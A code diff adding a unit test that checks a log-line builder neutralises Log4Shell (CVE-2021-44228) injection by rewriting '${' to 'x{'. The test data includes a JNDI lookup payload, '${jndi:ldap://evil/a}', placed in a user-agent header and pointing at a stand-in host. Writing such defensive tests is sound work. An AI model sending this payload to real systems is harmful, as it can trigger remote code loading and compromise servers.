@@ -101,6 +101,15 @@ describe('buildLogLine', () => {
       expect(over.diagnostics.map((d) => [d.code, d.data])).toEqual([['custom-field-limit', { limit: 40, measured: 41 }]]);
     });
   });
+  it('CVE-2021-44228=true turns every ${ into x{', () => {
+    const req = request({ requestHeaders: [['user-agent', '${jndi:ldap://evil/a}']], fields: { RayID: 'a${b' } });
+    const job = { ...JOB, logpull_options: 'fields=RayID,RequestHeaders&CVE-2021-44228=true' };
+    const r = buildLogLine(req, rule({ request_fields: [{ name: 'user-agent' }] }), job);
+    expect(r.line).toEqual({ RayID: 'ax{b', RequestHeaders: { 'user-agent': 'x{jndi:ldap://evil/a}' } });
+    expect(r.text).not.toContain('${');
+    const off = buildLogLine(req, rule({ request_fields: [{ name: 'user-agent' }] }), { ...job, logpull_options: 'fields=RayID' });
+    expect(off.line).toEqual({ RayID: 'a${b' });
+  });
   it('utf8Prefix never splits a character', () => {
     expect(utf8Prefix('aé', 2)).toBe('a');
     expect(utf8Prefix('a😀', 4)).toBe('a');
